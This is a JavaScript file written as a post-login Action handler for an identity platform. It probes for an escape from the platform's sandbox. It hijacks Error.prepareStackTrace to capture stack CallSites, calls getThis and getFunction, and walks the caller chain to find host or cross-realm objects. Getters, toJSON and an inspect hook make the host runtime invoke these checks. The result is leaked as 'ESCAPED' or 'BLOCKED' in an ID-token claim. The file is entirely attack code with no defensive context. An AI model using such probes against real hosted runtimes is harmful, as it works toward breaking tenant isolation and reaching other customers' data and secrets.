// CallSites and callers of the runner, from a getter that it calls
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const look = function () {
    const old = Error.prepareStackTrace;
    Error.prepareStackTrace = (e, sites) => sites;
    const { stack } = new Error();
    Error.prepareStackTrace = old;
    if (Array.isArray(stack)) for (const site of stack) for (const k of ['getThis', 'getFunction']) { try { const v = site[k](); const f = typeof v === 'function' ? v : v && v.constructor; if (f && f.constructor !== Function && !(f instanceof Function)) found.push(k + ' of another realm'); if (v && v.exports === undefined && typeof v.record === 'function') found.push('host object'); } catch {} }
    for (let f = arguments.callee.caller, i = 0; f && i < 30; i++) { try { if (f.constructor !== Function && !(f instanceof Function)) found.push('caller of another realm'); f = f.caller; } catch { break; } }
    return 1;
  };
  const value = { get a() { return look(); }, toJSON: new Function('f', 'return function () { return f(); }')(look) };
  api.idToken.setCustomClaim('v', value); console.log({ [Symbol.for('nodejs.util.inspect.custom')]: look }); api.idToken.setCustomClaim('v', Object.defineProperty({}, 'b', { get: look, enumerable: true }));
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
